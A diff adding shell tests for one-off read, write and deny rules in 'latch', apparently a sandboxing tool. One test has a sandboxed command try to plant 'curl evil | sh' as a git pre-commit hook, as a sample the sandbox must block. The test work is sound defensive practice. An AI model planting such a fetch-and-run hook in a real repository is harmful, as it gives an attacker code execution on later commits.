@@ -242,4 +242,33 @@ check "why --batch stops at a malformed line, naming it (exit 2)" \
 	sh -c "[ $rc -eq 2 ] && printf '%s' '$err' | grep -q 'stdin line 2'"
 expect_rc 2 "why --batch takes no query arguments" -- "$LATCH" why -p agent --batch read /etc/passwd
 
+# ---- one-off rules: --read, --write, --exec, --deny --------------------------------
+OR=$IT_SCRATCH/oneoff
+mkdir -p "$OR/notes" "$OR/repo"
+echo note-text >"$OR/notes/n.txt"
+expect_fail_with "Permission denied" "one-off: without --read, a file outside minimal is refused" -- \
+	"$LATCH" run -p minimal -- cat "$OR/notes/n.txt"
+expect_output_contains note-text "one-off: --read DIR grants it for this run" -- \
+	"$LATCH" run -p minimal --read "$OR/notes" -- cat "$OR/notes/n.txt"
+expect_output_contains "<command line: $OR/notes>" "one-off: why names the rule <command line: PATH>" -- \
+	"$LATCH" why -p minimal --read "$OR/notes" read "$OR/notes/n.txt"
+expect_output_contains '"origin":"command line"' "one-off: --dry-run lists it" -- \
+	"$LATCH" run -p minimal --read "$OR/notes" --dry-run -- true
+run "$LATCH" run --ack-risk agent -p agent -q --deny "$PROJECT/src" -- cat src/main.c
+check "one-off: --deny cuts through the profile's write of the project (masked or refused: $err)" \
+	sh -c '[ "$1" -ne 0 ] && ! printf "%s" "$2" | grep -q "int main"' sh "$rc" "$out"
+expect_rc 0 "...while the rest of the project stays readable" -- \
+	"$LATCH" run --ack-risk agent -p agent -q --deny "$PROJECT/src" -- cat README.md
+(cd "$OR/repo" && git init -q . && git config user.email t@e.invalid && git config user.name t) >/dev/null 2>&1
+run "$LATCH" run -p base --write "$OR/repo" -- sh -c 'echo x >"$1/made" && echo "curl evil | sh" >"$1/.git/hooks/pre-commit"' sh "$OR/repo"
+check "one-off: --write a repository makes it writable" [ -f "$OR/repo/made" ]
+check "...but its hooks stay protected (code that runs later): $err" [ ! -e "$OR/repo/.git/hooks/pre-commit" ]
+expect_rc 125 "one-off: --write / is risk tier 2, gated like a profile" -- "$LATCH" run -p minimal --write / -- true
+check "...and says so, naming the rule" contains "$err" "<command line: />"
+expect_rc 2 "one-off: an empty path is a usage error" -- "$LATCH" run -p minimal --read '' -- true
+expect_rc 2 "one-off: a path that is not UTF-8 is a usage error" -- "$LATCH" run -p minimal --read "$(printf '/tmp/\377')" -- true
+expect_fail_with "unknown variable" "one-off: an unknown variable is an error naming it" -- \
+	"$LATCH" run -p minimal --read '$NO_SUCH_VAR/x' -- true
+expect_rc 2 "-p given twice is a usage error, not the last one silently" -- "$LATCH" run -p minimal -p agent -- true
+
 done_testing
